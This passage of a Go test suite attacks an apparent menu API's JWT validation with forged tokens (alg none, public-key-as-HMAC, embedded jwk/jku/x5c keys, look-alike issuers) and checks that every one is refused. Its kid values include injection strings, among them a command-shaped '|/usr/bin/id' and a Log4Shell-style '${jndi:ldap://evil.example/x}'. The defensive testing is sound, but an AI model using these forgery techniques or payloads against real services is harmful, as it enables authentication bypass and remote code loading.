package server_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"io"
	"log/slog"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/go-jose/go-jose/v4"

	"menu-api/authz"
	"menu-api/authz/authztest"
	"menu-api/items"
	"menu-api/server"
)

// RSA keys are slow to make under the race detector: one for all issuers under attack, one for all forgers.
var (
	tenantKey = sync.OnceValue(func() *authztest.Key { return authztest.NewKey(&testing.B{}) })
	forgerKey = sync.OnceValue(func() *authztest.Key { return authztest.NewKey(&testing.B{}) })
)

// attackedStore is a store with the default menu.
func attackedStore(tb testing.TB) items.Store {
	tb.Helper()
	store := openStore(tb)
	if err := store.Seed(context.Background(), items.Stamp{}, items.DefaultMenu()); err != nil {
		tb.Fatal(err)
	}
	return store
}

// attackedAPI is the API as it runs, listener and limits included. It asks for its keys at keysURL.
func attackedAPI(tb testing.TB, store items.Store, issuer *authztest.Issuer, keysURL string, transport http.RoundTripper) *api {
	tb.Helper()
	a := &api{tb: tb, issuer: issuer, log: &syncBuffer{}, client: newClient(tb)}
	log := slog.New(slog.NewJSONHandler(a.log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	ctx, cancel := context.WithCancel(context.Background())
	guard, err := authz.NewGuard(authz.Options{
		Issuer: issuer.URL, Audiences: []string{authztest.Audience}, ClockSkew: time.Minute, RequirePermissions: true,
		Keys: authz.NewKeys(ctx, keysURL, transport, log),
	})
	if err != nil {
		tb.Fatal(err)
	}
	s, err := server.New(server.Options{
		Store: store, Guard: guard, Logger: log, Metrics: server.NewMetrics(), ShutdownGrace: 5 * time.Second,
	})
	if err != nil {
		tb.Fatal(err)
	}
	listeners, err := server.Listen(context.Background(), "127.0.0.1", 0)
	if err != nil {
		tb.Fatal(err)
	}
	a.url = "http://" + listeners[0].Addr().String()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = s.Serve(ctx, listeners...)
	}()
	tb.Cleanup(func() {
		a.client.CloseIdleConnections() // or the server would wait for what they may still send
		cancel()
		<-done
	})
	return a
}

// tenant is the issuer of the tokens under attack. Its name differs from where its keys are, so that look-alikes of the
// name can be tried.
const tenant = "https://tenant.example.com/"

func attackedTenant(tb testing.TB) *api {
	tb.Helper()
	issuer := authztest.NewIssuerWith(tb, tenantKey())
	keysURL := issuer.JWKSURL()
	issuer.URL = tenant
	return attackedAPI(tb, attackedStore(tb), issuer, keysURL, nil)
}

// verdict is what an attack must be answered with, to the letter.
type verdict struct {
	status    int
	challenge string
}

var (
	noToken     = verdict{401, `Bearer realm="menu-api"`}
	badForm     = verdict{401, `Bearer realm="menu-api", error="invalid_token", error_description="The access token is malformed"`}
	badToken    = verdict{401, `Bearer realm="menu-api", error="invalid_token", error_description="The access token is not valid for this API"`}
	tooOld      = verdict{401, `Bearer realm="menu-api", error="invalid_token", error_description="The access token expired"`}
	powerless   = verdict{403, `Bearer realm="menu-api", error="insufficient_scope", scope="create:items"`}
	unavailable = verdict{status: 503}
	admitted    = verdict{status: 201}
)

// attack is a token and its verdict. The few that are admitted keep the rest honest: what is refused is refused for what
// its name says.
type attack struct {
	name  string
	token string
	want  verdict
}

// mint makes the tokens. In a header, KID stands for the issuer's kid.
type mint struct {
	tb     testing.TB
	issuer *authztest.Issuer
	key    *authztest.Key
	now    int64
	claims string   // of a valid token that holds the permission
	good   string   // that token
	parts  []string // its segments
}

func newMint(tb testing.TB, issuer *authztest.Issuer) mint {
	tb.Helper()
	claims, err := json.Marshal(issuer.Claims([]string{items.CreateItems}, nil))
	if err != nil {
		tb.Fatal(err)
	}
	m := mint{tb: tb, issuer: issuer, key: issuer.Key(), now: time.Now().Unix(), claims: string(claims)}
	m.good = issuer.Sign(tb, issuer.Header(), m.claims)
	m.parts = strings.Split(m.good, ".")
	return m
}

func (m mint) named(header string) string { return strings.ReplaceAll(header, "KID", m.key.ID) }

// header returns a token with the header, ordinary claims and the issuer's signature.
func (m mint) header(header string) string { return m.key.Sign(m.tb, m.named(header), m.claims) }

// payload returns a token with the payload, an ordinary header and the issuer's signature.
func (m mint) payload(payload string) string {
	return m.key.Sign(m.tb, m.issuer.Header(), payload)
}

// with returns a token of the issuer's with one claim changed; nil removes it.
func (m mint) with(claim string, value any) string {
	m.tb.Helper()
	return m.issuer.TokenWith(m.tb, []string{items.CreateItems}, map[string]any{claim: value})
}

// literal is with for a value that Go cannot hold.
func (m mint) literal(claim, value string) string {
	return m.with(claim, json.RawMessage(value))
}

// and returns a token of the issuer's with members appended to its claims as they are.
func (m mint) and(members string) string {
	return m.payload(strings.TrimSuffix(m.claims, "}") + "," + members + "}")
}

// signed returns the good token with another signature.
func (m mint) signed(signature []byte) string {
	return m.parts[0] + "." + m.parts[1] + "." + authztest.Encode(string(signature))
}

func (m mint) signature() []byte {
	signature, err := base64.RawURLEncoding.DecodeString(m.parts[2])
	if err != nil {
		m.tb.Fatal(err)
	}
	return signature
}

// jose returns a token that another library signs.
func (m mint) jose(alg jose.SignatureAlgorithm, key any) string {
	m.tb.Helper()
	options := new(jose.SignerOptions).WithType("JWT").WithHeader("kid", m.key.ID)
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: alg, Key: key}, options)
	if err != nil {
		m.tb.Fatal(err)
	}
	jws, err := signer.Sign([]byte(m.claims))
	if err != nil {
		m.tb.Fatal(err)
	}
	token, err := jws.CompactSerialize()
	if err != nil {
		m.tb.Fatal(err)
	}
	return token
}

func (m mint) mac(alg func() hash.Hash, header string, secret []byte) string {
	input := authztest.Encode(m.named(header)) + "." + m.parts[1]
	mac := hmac.New(alg, secret)
	_, _ = io.WriteString(mac, input)
	return input + "." + authztest.Encode(string(mac.Sum(nil)))
}

func (m mint) must(raw []byte, err error) []byte {
	m.tb.Helper()
	if err != nil {
		m.tb.Fatal(err)
	}
	return raw
}

// judge sends the token with a POST and checks the whole answer. What is admitted is taken off the menu again.
func (a *api) judge(tb testing.TB, want verdict, r answer) {
	tb.Helper()
	r.assertStatus(tb, want.status)
	if got := strings.Join(r.header.Values("WWW-Authenticate"), " | "); got != want.challenge {
		tb.Errorf("got challenge %q, want %q", got, want.challenge)
	}
	assertHeader(tb, r, "Cache-Control", "no-store")
	if r.status == http.StatusCreated {
		a.do("DELETE", r.header.Get("Location"), "", a.admin()...).assertStatus(tb, 200)
		return
	}
	r.mustProblem(tb)
	if location := r.header.Get("Location"); location != "" {
		tb.Errorf("got Location %q on a refusal", location)
	}
	if retry := r.header.Get("Retry-After"); (want.status == 503) != (retry != "" && retry != "0") {
		tb.Errorf("got Retry-After %q with status %d", retry, r.status)
	}
}

// assertUntouched checks that the menu is the one before the attacks.
func (a *api) assertUntouched(tb testing.TB, before string) {
	tb.Helper()
	if got := a.do("GET", "/items", "").body; got != before {
		tb.Errorf("the menu changed: got %s, want %s", got, before)
	}
}

// assertLogWithout checks that no segment of the token is in the log.
func (a *api) assertLogWithout(tb testing.TB, token string) {
	tb.Helper()
	log := a.log.String()
	for segment := range strings.SplitSeq(token, ".") {
		if len(segment) >= 20 && strings.Contains(log, segment[:min(60, len(segment))]) {
			tb.Errorf("the log holds the token: %.60s", segment)
		}
	}
}

// TestTokenAttacks tries every known way to forge or confuse a token against the running server (RFC 8725, 6750, 9068).
func TestTokenAttacks(t *testing.T) {
	t.Parallel()
	a := attackedTenant(t)
	m := newMint(t, a.issuer)
	trap, caught := newTrap(t)
	before := a.do("GET", "/items", "").body
	total := 0
	for _, family := range []struct {
		name    string
		attacks []attack
	}{
		{"control", []attack{{"a valid token", m.good, admitted}}},
		{"alg none", algNone(m)},
		{"HMAC with the public key", publicKeyAsSecret(m)},
		{"other algorithms", otherAlgorithms(m)},
		{"alg", algForms(m)},
		{"embedded keys", embeddedKeys(m, trap)},
		{"crit and b64", criticalHeaders(m)},
		{"kid", kids(m)},
		{"typ", types(m)},
		{"tokens for something else", otherTokens(m)},
		{"iss", issuers(m)},
		{"aud", audiences(m)},
		{"exp", expiries(m)},
		{"nbf and iat", futures(m)},
		{"duplicates", duplicates(m)},
		{"bombs", bombs(m)},
		{"base64", encodings(m)},
		{"dots and serialisations", serialisations(m)},
		{"signature", signatures(m)},
		{"JSON", texts(m)},
		{"permissions", permissionForms(m)},
		{"not permissions", notPermissions(m)},
	} {
		total += len(family.attacks)
		t.Run(family.name, func(t *testing.T) {
			var slowest time.Duration
			for _, attack := range family.attacks {
				t.Run(attack.name, func(t *testing.T) {
					start := time.Now()
					r := a.do("POST", "/items", soup, "Authorization", "Bearer "+attack.token)
					slowest = max(slowest, time.Since(start))
					a.judge(t, attack.want, r)
				})
			}
			for _, attack := range family.attacks {
				a.assertLogWithout(t, attack.token)
			}
			t.Logf("%d tokens, the slowest answer after %s", len(family.attacks), slowest.Round(100*time.Microsecond))
		})
	}
	if n := caught.Load(); n != 0 {
		t.Errorf("the server asked the attacker for keys %d times, want never", n)
	}
	a.assertUntouched(t, before)
	t.Logf("%d tokens in all", total)
}

// newTrap is an attacker's web site. It counts who comes.
func newTrap(tb testing.TB) (url string, caught *atomic.Int64) {
	tb.Helper()
	caught = &atomic.Int64{}
	keys := authztest.KeySetOf(forgerKey().JWK(nil), forgerKey().JWK(map[string]any{"kid": tenantKey().ID}))
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		caught.Add(1)
		_, _ = w.Write(keys)
	}))
	tb.Cleanup(trap.Close)
	return trap.URL, caught
}

func algNone(m mint) (attacks []attack) {
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "", "none ", "\\u006eone"} {
		header := authztest.Encode(m.named(`{"alg":"` + alg + `","typ":"JWT","kid":"KID"}`))
		attacks = append(attacks,
			attack{fmt.Sprintf("%q, two segments", alg), header + "." + m.parts[1], badForm},
			attack{fmt.Sprintf("%q, no signature", alg), header + "." + m.parts[1] + ".", badForm},
			attack{fmt.Sprintf("%q, a made-up signature", alg), header + "." + m.parts[1] + ".AAAA", badToken},
			attack{fmt.Sprintf("%q, the issuer's signature", alg), m.header(`{"alg":"` + alg + `","kid":"KID"}`), badToken},
			attack{fmt.Sprintf("%q, no kid", alg), m.header(`{"alg":"` + alg + `"}`), badToken},
		)
	}
	return attacks
}

// publicKeyAsSecret signs with HMAC and what everyone knows. A library that lets the token choose the algorithm takes the
// public key for the secret.
func publicKeyAsSecret(m mint) (attacks []attack) {
	public := &m.key.Private.PublicKey
	pkix := m.must(x509.MarshalPKIXPublicKey(public))
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	pkixPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
	secrets := []struct {
		name   string
		secret []byte
	}{
		{"PKIX PEM", pkixPEM},
		{"PKIX PEM without its last line break", pkixPEM[:len(pkixPEM)-1]},
		{"PKIX DER", pkix},
		{"PKCS1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
		{"PKCS1 DER", pkcs1},
		{"modulus", public.N.Bytes()},
		{"modulus as in the JWK", []byte(authztest.Encode(string(public.N.Bytes())))},
		{"JWK", m.must(json.Marshal(m.key.JWK(nil)))},
		{"JWKS document", authztest.KeySet(m.key)},
		{"kid", []byte(m.key.ID)},
		{"nothing", nil},
	}
	for _, s := range secrets {
		attacks = append(attacks,
			attack{"HS256, " + s.name, m.mac(sha256.New, `{"alg":"HS256","typ":"JWT","kid":"KID"}`, s.secret), badToken},
			attack{"HS384, " + s.name, m.mac(sha512.New384, `{"alg":"HS384","typ":"JWT","kid":"KID"}`, s.secret), badToken},
			attack{"HS512, " + s.name, m.mac(sha512.New, `{"alg":"HS512","typ":"JWT","kid":"KID"}`, s.secret), badToken},
			attack{"HS256 called RS256, " + s.name, m.mac(sha256.New, `{"alg":"RS256","typ":"JWT","kid":"KID"}`, s.secret), badToken},
		)
	}
	return attacks
}

// otherAlgorithms are really signed so, with the issuer's own key where the algorithm takes it.
func otherAlgorithms(m mint) (attacks []attack) {
	for _, alg := range []jose.SignatureAlgorithm{jose.RS384, jose.RS512, jose.PS256, jose.PS384, jose.PS512} {
		token := m.jose(alg, m.key.Private)
		attacks = append(attacks,
			attack{string(alg), token, badToken},
			attack{string(alg) + " called RS256", m.parts[0] + "." + m.parts[1] + "." + strings.Split(token, ".")[2], badToken},
		)
	}
	for alg, curve := range map[jose.SignatureAlgorithm]elliptic.Curve{jose.ES256: elliptic.P256(), jose.ES384: elliptic.P384()} {
		key, err := ecdsa.GenerateKey(curve, rand.Reader)
		if err != nil {
			m.tb.Fatal(err)
		}
		attacks = append(attacks, attack{string(alg), m.jose(alg, key), badToken})
	}
	_, edwards, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		m.tb.Fatal(err)
	}
	sha1 := func() string { // SHA-1 collides
		digest := sha256.Sum256([]byte(m.parts[0] + "." + m.parts[1]))
		return string(m.must(rsa.SignPKCS1v15(rand.Reader, m.key.Private, crypto.SHA1, digest[:20])))
	}
	bare := func() string { // no DigestInfo says with which hash it was signed
		digest := sha256.Sum256([]byte(m.parts[0] + "." + m.parts[1]))
		return string(m.must(rsa.SignPKCS1v15(rand.Reader, m.key.Private, 0, digest[:])))
	}
	return append(attacks,
		attack{"RS256, the same library", m.jose(jose.RS256, m.key.Private), admitted},
		attack{"EdDSA", m.jose(jose.EdDSA, edwards), badToken},
		attack{"ES256K", m.header(`{"alg":"ES256K","kid":"KID"}`), badToken},
		attack{"RS1", m.header(`{"alg":"RS1","kid":"KID"}`), badToken},
		attack{"RS256 over a SHA-1 DigestInfo", m.signed([]byte(sha1())), badToken},
		attack{"RS256 without DigestInfo", m.signed([]byte(bare())), badToken},
	)
}

func algForms(m mint) []attack {
	return []attack{
		{"missing", m.header(`{"typ":"JWT","kid":"KID"}`), badToken},
		{"twice, none first", m.header(`{"alg":"none","alg":"RS256","kid":"KID"}`), badForm},
		{"twice, none last", m.header(`{"alg":"RS256","alg":"none","kid":"KID"}`), badForm},
		{"twice, the same", m.header(`{"alg":"RS256","alg":"RS256","kid":"KID"}`), badForm},
		{"twice, one escaped", m.header(`{"alg":"RS256","\u0061lg":"none","kid":"KID"}`), badForm},
		{"null", m.header(`{"alg":null,"kid":"KID"}`), badToken},
		{"a number", m.header(`{"alg":256,"kid":"KID"}`), badToken},
		{"true", m.header(`{"alg":true,"kid":"KID"}`), badToken},
		{"an array", m.header(`{"alg":["RS256"],"kid":"KID"}`), badToken},
		{"an object", m.header(`{"alg":{"RS256":1},"kid":"KID"}`), badToken},
		{"lower case", m.header(`{"alg":"rs256","kid":"KID"}`), badToken},
		{"mixed case", m.header(`{"alg":"Rs256","kid":"KID"}`), badToken},
		{"a space after it", m.header(`{"alg":"RS256 ","kid":"KID"}`), badToken},
		{"a space before it", m.header(`{"alg":" RS256","kid":"KID"}`), badToken},
		{"NUL after it", m.header(`{"alg":"RS256\u0000","kid":"KID"}`), badToken},
		{"a list of two", m.header(`{"alg":"RS256,none","kid":"KID"}`), badToken},
		{"its name in upper case alone", m.header(`{"ALG":"RS256","kid":"KID"}`), badToken},
		{"its name in upper case beside it is another name", m.header(`{"alg":"RS256","ALG":"none","kid":"KID"}`), admitted},
		{"escaped is the same", m.header(`{"\u0061lg":"\u0052S256","kid":"KID"}`), admitted},
	}
}

// embeddedKeys come from a forger whose signature is in order: they fail only because the key in the token counts for
// nothing (RFC 8725 section 3.10).
func embeddedKeys(m mint, trap string) []attack {
	forger := forgerKey()
	jwk := func(kid string) string {
		return string(m.must(json.Marshal(forger.JWK(map[string]any{"kid": kid}))))
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	certificate := m.must(x509.CreateCertificate(rand.Reader, template, template, &forger.Private.PublicKey, forger.Private))
	x5c := base64.StdEncoding.EncodeToString(certificate)
	thumbprint := sha256.Sum256(certificate)
	by := func(header string) string { return forger.Sign(m.tb, m.named(header), m.claims) }
	return []attack{
		{"a forger's signature alone", by(`{"alg":"RS256","kid":"KID"}`), badToken},
		{"jwk under the issuer's kid", by(`{"alg":"RS256","kid":"KID","jwk":` + jwk(m.key.ID) + `}`), badToken},
		{"jwk under its own kid", by(`{"alg":"RS256","kid":"` + forger.ID + `","jwk":` + jwk(forger.ID) + `}`), badToken},
		{"jwk without a kid", by(`{"alg":"RS256","jwk":` + jwk(forger.ID) + `}`), badToken},
		{"jku", by(`{"alg":"RS256","kid":"KID","jku":"` + trap + `/jwks.json"}`), badToken},
		{"jku, an unknown kid", by(`{"alg":"RS256","kid":"` + forger.ID + `","jku":"` + trap + `/jwks.json"}`), badToken},
		{"jku that begins with the issuer", by(`{"alg":"RS256","kid":"` + forger.ID + `","jku":"` + tenant + `@` + strings.TrimPrefix(trap, "http://") + `/"}`), badToken},
		{"x5u", by(`{"alg":"RS256","kid":"KID","x5u":"` + trap + `/chain.pem"}`), badToken},
		{"x5c", by(`{"alg":"RS256","kid":"KID","x5c":["` + x5c + `"]}`), badToken},
		{"x5c and x5t#S256", by(`{"alg":"RS256","kid":"KID","x5c":["` + x5c + `"],"x5t#S256":"` + authztest.Encode(string(thumbprint[:])) + `"}`), badToken},
		{"x5c that is none", by(`{"alg":"RS256","kid":"KID","x5c":["AAAA"]}`), badToken},
		{"jwk that is none", by(`{"alg":"RS256","kid":"KID","jwk":{"kty":"RSA","n":"","e":""}}`), badToken},
		{"jwk null", by(`{"alg":"RS256","kid":"KID","jwk":null}`), badToken},
		{"kid a URL", by(`{"alg":"RS256","kid":"` + trap + `/jwks.json"}`), badToken},
		{"iss a URL with keys", forger.Sign(m.tb, `{"alg":"RS256","kid":"`+forger.ID+`"}`, strings.Replace(m.claims, tenant, trap+"/", 1)), badToken},
		{"all of them", by(`{"alg":"RS256","kid":"KID","jwk":` + jwk(m.key.ID) + `,"jku":"` + trap + `","x5u":"` + trap + `","x5c":["` + x5c + `"]}`), badToken},
		{"a jwk that is a secret, with HS256", m.mac(sha256.New, `{"alg":"HS256","kid":"KID","jwk":{"kty":"oct","k":"c2VjcmV0"}}`, []byte("secret")), badToken},
		{"a jku of the issuer's own is passed over", m.header(`{"alg":"RS256","kid":"KID","jku":"` + trap + `"}`), admitted},
	}
}

func criticalHeaders(m mint) []attack {
	header := func(more string) string { return m.header(`{"alg":"RS256","kid":"KID",` + more + `}`) }
	return []attack{
		{"crit exp", header(`"crit":["exp"],"exp":1`), badToken},
		{"crit of a name that is not there", header(`"crit":["https://example.com/x"]`), badToken},
		{"crit empty", header(`"crit":[]`), badToken},
		{"crit null", header(`"crit":null`), badToken},
		{"crit a string", header(`"crit":"exp"`), badToken},
		{"crit alg", header(`"crit":["alg"]`), badToken},
		{"b64 false and crit", header(`"b64":false,"crit":["b64"]`), badToken},
		{"b64 false alone", header(`"b64":false`), badToken},
		{"b64 true", header(`"b64":true`), badToken},
		{"b64 null", header(`"b64":null`), badToken},
		{"b64 false, payload not encoded", m.bare(), badForm},
		{"crit twice", header(`"crit":["b64"],"crit":["exp"]`), badForm},
	}
}

// bare is a token of RFC 7797, whose payload stands as it is: signed so, and no point in the payload.
func (m mint) bare() string {
	input := authztest.Encode(m.named(`{"alg":"RS256","kid":"KID","b64":false,"crit":["b64"]}`)) + `.{"sub":"x"}`
	digest := sha256.Sum256([]byte(input))
	return input + "." + authztest.Encode(string(m.must(rsa.SignPKCS1v15(rand.Reader, m.key.Private, crypto.SHA256, digest[:]))))
}

func kids(m mint) []attack {
	named := func(kid string) string { return m.header(`{"alg":"RS256","kid":` + kid + `}`) }
	id := m.key.ID
	return []attack{
		{"missing", m.header(`{"alg":"RS256"}`), badToken},
		{"empty", named(`""`), badToken},
		{"unknown", named(`"made-up"`), badToken},
		{"a number", named(`1`), badToken},
		{"null", named(`null`), badToken},
		{"true", named(`true`), badToken},
		{"an array that holds it", named(`["` + id + `"]`), badToken},
		{"an object", named(`{"kid":"` + id + `"}`), badToken},
		{"path-shaped", named(`"../../../../dev/null"`), badToken},
		{"path to the key", named(`"./` + id + `"`), badToken},
		{"SQL-shaped", named(`"' UNION SELECT 'secret' --"`), badToken},
		{"SQL-shaped around the kid", named(`"` + id + `' OR '1'='1"`), badToken},
		{"command-shaped", named(`"` + id + `|/usr/bin/id"`), badToken},
		{"template-shaped", named(`"${jndi:ldap://evil.example/x}"`), badToken},
		{"twice, the good one last", m.header(`{"alg":"RS256","kid":"made-up","kid":"KID"}`), badForm},
		{"twice, the good one first", m.header(`{"alg":"RS256","kid":"KID","kid":"made-up"}`), badForm},
		{"with NUL", named(`"` + id + `\u0000"`), badToken},
		{"with a line break", named(`"` + id + `\n"`), badToken},
		{"with a space", named(`"` + id + ` "`), badToken},
		{"upper case", named(`"` + strings.ToUpper(id) + `"`), badToken},
		{"half a surrogate", named(`"\ud800"`), badForm},
		{"8 KiB long", named(`"` + strings.Repeat("k", 8<<10) + `"`), badToken},
		{"16 KiB long", named(`"` + strings.Repeat("k", 16<<10) + `"`), badForm}, // more than a token may be
		{"escaped is the same", named(`"\u006b` + id[1:] + `"`), admitted},
	}
}

func types(m mint) (attacks []attack) {
	header := func(typ string) string { return m.header(`{"alg":"RS256","kid":"KID","typ":` + typ + `}`) }
	for _, typ := range []string{
		`"logout+jwt"`, `"dpop+jwt"`, `"secevent+jwt"`, `"id_token"`, `"token-introspection+jwt"`, `"oauth-authz-req+jwt"`, `"JWE"`, `"JOSE"`,
		`"JOSE+JSON"`, `""`, `"JWT "`, `" at+jwt"`, `"at+jwt2"`, `"xat+jwt"`, `"at+jwt\u0000"`, `"application/application/jwt"`,
		`"application/logout+jwt"`, `"at+jwt; charset=utf-8"`, `"rt+jwt"`, `"kb+jwt"`, `null`, `1`, `["at+jwt"]`, `{"at+jwt":1}`, `true`,
	} {
		attacks = append(attacks, attack{typ, header(typ), badToken})
	}
	for _, typ := range []string{`"JWT"`, `"jwt"`, `"at+jwt"`, `"AT+JWT"`, `"application/at+jwt"`, `"application/jwt"`} {
		attacks = append(attacks, attack{typ + " is an access token's", header(typ), admitted})
	}
	return append(attacks, attack{"twice", m.header(`{"alg":"RS256","kid":"KID","typ":"logout+jwt","typ":"JWT"}`), badForm})
}

// otherTokens are of the same issuer, in order, and for another purpose.
func otherTokens(m mint) []attack {
	token := func(typ string, change map[string]any) string {
		claims := m.must(json.Marshal(m.issuer.Claims([]string{items.CreateItems}, change)))
		return m.key.Sign(m.tb, m.named(`{"alg":"RS256","typ":"`+typ+`","kid":"KID"}`), string(claims))
	}
	logout := map[string]any{
		"aud": "a-client", "jti": "x", "sid": "y", "permissions": nil, "scope": nil,
		"events": map[string]any{"http://schemas.openid.net/event/backchannel-logout": map[string]any{}},
	}
	return []attack{
		{"ID token", token("JWT", map[string]any{"aud": "a-client", "nonce": "n", "at_hash": "h", "name": "A"}), badToken},
		{"ID token whose azp is the audience", token("JWT", map[string]any{"aud": "a-client", "azp": authztest.Audience}), badToken},
		{"ID token with permissions", token("JWT", map[string]any{"aud": []string{"a-client"}, "nonce": "n"}), badToken},
		{"logout token", token("logout+jwt", logout), badToken},
		{"logout token, typ JWT", token("JWT", logout), badToken},
		{"token for userinfo alone", token("JWT", map[string]any{"aud": tenant + "userinfo"}), badToken},
		{"token for the issuer's management API", token("JWT", map[string]any{"aud": tenant + "api/v2/"}), badToken},
		{"DPoP proof", token("dpop+jwt", map[string]any{"htm": "POST", "htu": "https://menu.example.com/items", "iss": nil, "aud": nil, "exp": nil}), badToken},
		{"client assertion", token("JWT", map[string]any{"iss": "a-client", "sub": "a-client", "aud": tenant}), badToken},
	}
}

func issuers(m mint) (attacks []attack) {
	for name, iss := range map[string]any{
		"no slash":                   strings.TrimSuffix(tenant, "/"),
		"two slashes":                tenant + "/",
		"upper case":                 strings.ToUpper(tenant),
		"host in mixed case":         "https://Tenant.example.com/",
		"prefix":                     "x" + tenant,
		"suffix":                     tenant + "x",
		"a host that begins so":      "https://tenant.example.com.evil.example/",
		"a host that ends so":        "https://eviltenant.example.com/",
		"userinfo":                   "https://tenant.example.com@evil.example/",
		"http":                       strings.Replace(tenant, "https", "http", 1),
		"default port":               "https://tenant.example.com:443/",
		"query":                      tenant + "?",
		"fragment":                   tenant + "#",
		"dot segment":                tenant + "./",
		"punycode look-alike":        "https://xn--tnant-esa.example.com/",
		"Cyrillic look-alike":        "https://tеnant.example.com/",
		"full-width look-alike":      "https://tenant．example．com/",
		"a dot after the host":       "https://tenant.example.com./",
		"a space after it":           tenant + " ",
		"NUL after it":               tenant + "\x00",
		"a zero-width space":         tenant + "\u200b",
		"empty":                      "",
		"missing":                    nil,
		"null":                       json.RawMessage("null"),
		"a number":                   1,
		"an array that holds it":     []string{tenant},
		"an object":                  map[string]string{"iss": tenant},
		"another tenant":             "https://other.example.com/",
		"percent-encoded":            "https://tenant%2Eexample.com/",
		"where the keys really are":  "http://127.0.0.1/",
		"the audience in its place":  authztest.Audience,
		"backslash instead of slash": `https:\\tenant.example.com\`,
	} {
		attacks = append(attacks, attack{name, m.with("iss", iss), badToken})
	}
	return append(attacks,
		attack{"escaped is the same", m.literal("iss", `"https:\/\/tenant.example.com\u002f"`), admitted},
		attack{"its name in upper case", m.payload(strings.Replace(m.claims, `"iss"`, `"ISS"`, 1)), badToken},
	)
}

func audiences(m mint) (attacks []attack) {
	const aud = authztest.Audience
	for name, value := range map[string]any{
		"substring":                 aud[:len(aud)-1],
		"superstring":               aud + ".evil.example",
		"prefixed":                  "x" + aud,
		"with a slash":              aud + "/",
		"upper case":                strings.ToUpper(aud),
		"empty string":              "",
		"empty array":               []string{},
		"array of an empty string":  []string{""},
		"missing":                   nil,
		"null":                      json.RawMessage("null"),
		"array of null":             json.RawMessage("[null]"),
		"a number":                  1,
		"true":                      true,
		"an object":                 map[string]any{aud: true},
		"a nested array":            [][]string{{aud}},
		"array that holds a number": []any{aud, 1},
		"array of another":          []string{"https://other.example.com"},
		"comma-joined":              aud + ",https://other.example.com",
		"joined by a space":         aud + " https://other.example.com",
		"wildcard":                  "*",
		"http":                      strings.Replace(aud, "https", "http", 1),
		"a space after it":          aud + " ",
		"NUL after it":              aud + "\x00",
		"Cyrillic look-alike":       strings.Replace(aud, "e", "е", 1),
		"the client's id":           "a-client",
	} {
		attacks = append(attacks, attack{name, m.with("aud", value), badToken})
	}
	return append(attacks,
		attack{"alone", m.with("aud", aud), admitted},
		attack{"array that holds it", m.with("aud", []string{"x", aud}), admitted},
		attack{"its name in upper case", m.payload(strings.Replace(m.claims, `"aud"`, `"AUD"`, 1)), badToken},
	)
}

func expiries(m mint) []attack {
	return []attack{
		{"missing", m.with("exp", nil), badToken},
		{"null", m.literal("exp", "null"), badToken},
		{"past the skew", m.with("exp", m.now-61), tooOld},
		{"long past", m.with("exp", 1), tooOld},
		{"zero", m.with("exp", 0), tooOld},
		{"minus zero", m.literal("exp", "-0"), tooOld},
		{"tiny", m.literal("exp", "1e-400"), tooOld},
		{"fractional, past the skew", m.literal("exp", fmt.Sprintf("%d.9", m.now-62)), tooOld},
		{"negative", m.with("exp", -1), badToken},
		{"very negative", m.literal("exp", "-9223372036854775808"), badToken},
		{"a string", m.with("exp", fmt.Sprint(m.now+3600)), badToken},
		{"a date", m.with("exp", "2999-01-01T00:00:00Z"), badToken},
		{"true", m.with("exp", true), badToken},
		{"an array", m.with("exp", []int64{m.now + 3600}), badToken},
		{"an object", m.with("exp", map[string]int64{"exp": m.now + 3600}), badToken},
		{"1e308", m.literal("exp", "1e308"), badToken},
		{"1e400", m.literal("exp", "1e400"), badToken},
		{"a huge integer", m.literal("exp", strings.Repeat("9", 400)), badToken},
		{"10,000 digits", m.literal("exp", strings.Repeat("9", 10_000)), badToken},
		{"the largest int64", m.literal("exp", "9223372036854775807"), badToken},
		{"one past it", m.literal("exp", "9223372036854775808"), badToken},
		{"wraps around in 32 bits", m.literal("exp", "253402300800"), badToken},
		{"milliseconds", m.with("exp", (m.now+3600)*1000), badToken},
		{"NaN, a string", m.with("exp", "NaN"), badToken},
		{"Infinity, a string", m.with("exp", "Infinity"), badToken},
		{"NaN", m.payload(`{"exp":NaN}`), badForm},
		{"Infinity", m.payload(`{"exp":Infinity}`), badForm},
		{"hexadecimal", m.payload(`{"exp":0xffffffff}`), badForm},
		{"a leading zero", m.payload(`{"exp":01}`), badForm},
		{"a leading plus", m.payload(`{"exp":+1}`), badForm},
		{"its name in upper case", m.payload(strings.Replace(m.claims, `"exp"`, `"EXP"`, 1)), badToken},
		{"within the skew", m.with("exp", m.now-1), admitted},
		{"fractional", m.literal("exp", fmt.Sprintf("%d.5", m.now+3600)), admitted},
		{"with an exponent", m.literal("exp", "2.5e11"), admitted},
		{"the last second of 9999", m.literal("exp", "253402300799"), admitted},
	}
}

func futures(m mint) (attacks []attack) {
	for _, claim := range []string{"nbf", "iat"} {
		attacks = append(attacks,
			attack{claim + " within the skew", m.with(claim, m.now+30), admitted},
			attack{claim + " past the skew", m.with(claim, m.now+3600), badToken},
			attack{claim + " past the skew by a little", m.with(claim, m.now+600), badToken},
			attack{claim + " missing", m.with(claim, nil), admitted},
			attack{claim + " fractional", m.literal(claim, fmt.Sprintf("%d.5", m.now-5)), admitted},
			attack{claim + " a string", m.with(claim, "0"), badToken},
			attack{claim + " negative", m.with(claim, -1), badToken},
			attack{claim + " 1e308", m.literal(claim, "1e308"), badToken},
			attack{claim + " 1e400", m.literal(claim, "1e400"), badToken},
			attack{claim + " -1e308", m.literal(claim, "-1e308"), badToken},
